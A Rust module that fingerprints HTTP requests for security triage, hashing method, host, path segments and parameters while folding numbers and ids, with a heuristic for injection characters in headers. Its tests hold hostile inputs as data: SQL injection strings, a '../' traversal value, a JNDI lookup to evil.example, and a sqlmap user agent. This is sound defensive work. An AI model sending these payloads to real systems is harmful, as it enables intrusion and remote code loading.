//! What a request says, apart from who says it and when: two requests that say the same have one name here.
//!
//! Analysts' verdicts hold for what they judged and for what says the same, so two errors are possible, and they do not weigh
//! alike. A name that is too narrow brings a false alarm back; one that is too wide hides an attack behind a verdict on something
//! harmless. So only forms that carry no text are folded (numbers, GUIDs, hexadecimal ids, dates, addresses, tokens of letters and
//! digits), each run of digits inside a text is one digit, and all else counts as it stands: `q=O'Brien` is not `q=' or 1=1`, and
//! `id=7' or 1=1` is `id=8' or 2=2`.
//!
//! The path counts segment by segment and not by a day's learned templates, so that the name is the same on every day. Of headers
//! and cookies only those count that hold characters of injections: the others differ between clients and sessions. The agent counts by
//! its family. What is beyond the bounds of [`content`](super::content) counts byte for byte: nothing hides behind them.

use std::borrow::Cow;

use super::agent::agent;
use super::content::{MAX_BYTES, MAX_VALUES, for_each_value};
use super::request::Request;
use super::template;

/// The name of what a request says: the first 128 bits of a BLAKE3 hash, as 32 hex digits.
#[must_use]
pub fn said(request: &Request<'_>) -> String {
    let mut hasher = blake3::Hasher::new();
    // With its length before it, so that no two lists of texts run together.
    let mut add = |bytes: &[u8]| {
        hasher.update(&(bytes.len() as u64).to_le_bytes());
        hasher.update(bytes);
    };
    let lower = |text: Option<&str>| text.unwrap_or_default().to_ascii_lowercase();
    add(lower(request.method).as_bytes());
    add(lower(request.host).as_bytes());
    add(agent(request.user_agent).family.as_bytes());
    add(&[u8::from(request.failed())]);
    let path = request.path.unwrap_or_default();
    for segment in path.split('/').filter(|s| !s.is_empty()) {
        add(folded(segment).as_bytes());
    }
    let content = Request {
        path: None,
        headers: None,
        referer: None,
        ..*request
    };
    let mut values = 0;
    for_each_value(&content, &mut |value| {
        values += 1;
        add(&value.name.to_le_bytes());
        add(folded(value.text).as_bytes());
    });
    let whole = [request.query, request.body].map(Option::unwrap_or_default);
    if values >= MAX_VALUES || whole.iter().any(|text| text.len() >= MAX_BYTES) {
        for text in whole {
            add(text.as_bytes());
        }
    }
    let around = Request {
        headers: request.headers,
        referer: request.referer,
        ..Request::default()
    };
    let mut seen = 0;
    for_each_value(&around, &mut |value| {
        seen += 1;
        if is_odd_in_a_header(value.text) {
            add(&value.name.to_le_bytes());
            add(folded(value.text).as_bytes());
        }
    });
    let headers = request.headers.unwrap_or_default();
    if seen >= MAX_VALUES || headers.len() >= MAX_BYTES {
        add(headers.as_bytes());
    }
    hasher.finalize().to_hex()[..32].to_owned()
}

/// Characters that injections of every kind need and header values seldom have. The marks that features count are no help here:
/// `*/*` bears some.
fn is_odd_in_a_header(text: &str) -> bool {
    text.contains(['\'', '"', '<', '>', '$', '{', '|', '`', '\\']) || text.contains("..")
}

/// A value as it counts: the placeholder of a form that carries no text, or the text with each run of digits as one.
fn folded(text: &str) -> Cow<'_, str> {
    let form = template::form(text);
    if matches!(
        form.as_ref(),
        "{n}" | "{uuid}" | "{hex}" | "{date}" | "{ip}" | "{id}" | "{token}"
    ) {
        return Cow::Owned(form.into_owned());
    }
    if !text.bytes().any(|b| b.is_ascii_digit()) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut digits = false;
    for c in text.chars() {
        if !(c.is_ascii_digit() && digits) {
            out.push(if c.is_ascii_digit() { '0' } else { c });
        }
        digits = c.is_ascii_digit();
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn get(path: &'static str, query: &'static str) -> Request<'static> {
        Request {
            method: Some("GET"),
            host: Some("shop"),
            path: Some(path),
            query: Some(query),
            user_agent: Some("curl/8.5.0"),
            status: Some(200),
            ..Request::default()
        }
    }

    #[test]
    fn numbers_ids_and_dates_are_folded_and_who_and_when_do_not_count() {
        let one = get("/orders/17", "page=3&since=2025-01-01&trace=9f8e7d6c5b4a");
        let other = Request {
            micros: Some(5),
            user: Some("ana"),
            client_ip: Some("10.0.0.1"),
            method: Some("get"),
            user_agent: Some("curl/7.1"),
            response_bytes: Some(77),
            status: Some(204),
            ..get(
                "/orders/99812",
                "page=41&since=2025-02-11&trace=0a1b2c3d4e5f",
            )
        };
        assert_eq!(said(&one), said(&other));
        assert_eq!(said(&one).len(), 32);
    }

    #[test]
    fn a_text_counts_as_it_stands_but_for_its_numbers() {
        assert_eq!(
            said(&get("/o", "id=7'%20or%201=1--")),
            said(&get("/o", "id=83'%20or%2022=22--"))
        );
        for (a, b) in [
            ("q=O'Brien", "q='%20or%201=1"),
            ("q=red", "q=blue"),
            ("q=red", "p=red"),
            ("q=red", ""),
            ("q=7", "q=x7'"),
            ("file=a.txt", "file=../a.txt"),
        ] {
            assert_ne!(said(&get("/o", a)), said(&get("/o", b)), "{a} {b}");
        }
    }

    #[test]
    fn endpoint_agent_and_outcome_count() {
        let base = get("/o/7", "");
        let all = [
            base,
            get("/p/7", ""),
            get("/o/7'", ""),
            Request {
                method: Some("DELETE"),
                ..base
            },
            Request {
                host: Some("bank"),
                ..base
            },
            Request {
                user_agent: Some("sqlmap/1.7"),
                ..base
            },
            Request {
                status: Some(404),
                ..base
            },
            Request {
                body: Some("{\"q\":\"x\"}"),
                ..base
            },
        ];
        let names: std::collections::BTreeSet<String> = all.iter().map(said).collect();
        assert_eq!(names.len(), all.len());
    }

    #[test]
    fn an_attack_in_a_header_counts_and_an_ordinary_header_does_not() {
        let with = |headers| Request {
            headers: Some(headers),
            ..get("/", "")
        };
        let plain = said(&with(r#"{"accept":"text/html","cookie":"s=abc"}"#));
        assert_eq!(plain, said(&with(r#"{"accept":"*/*","cookie":"s=xyz"}"#)));
        assert_eq!(plain, said(&get("/", "")));
        assert_ne!(
            plain,
            said(&with(r#"{"accept":"${jndi:ldap://evil.example/a}"}"#))
        );
    }

    #[test]
    fn nothing_hides_behind_the_bounds() {
        let many = |last: &str| {
            let names: Vec<String> = (0..MAX_VALUES).map(|i| format!("a{i}=x&")).collect();
            let mut query = names.concat();
            query.push_str(last);
            query
        };
        let (ordinary, attack) = (many("z=1"), many("z=1'%20or%201=1"));
        let name = |query: &str| {
            said(&Request {
                query: Some(query),
                ..get("/", "")
            })
        };
        assert_ne!(name(&ordinary), name(&attack));
        let long = "x".repeat(MAX_BYTES);
        assert_ne!(
            name(&format!("q={long}")),
            name(&format!("q={long}'or 1=1"))
        );
    }
}
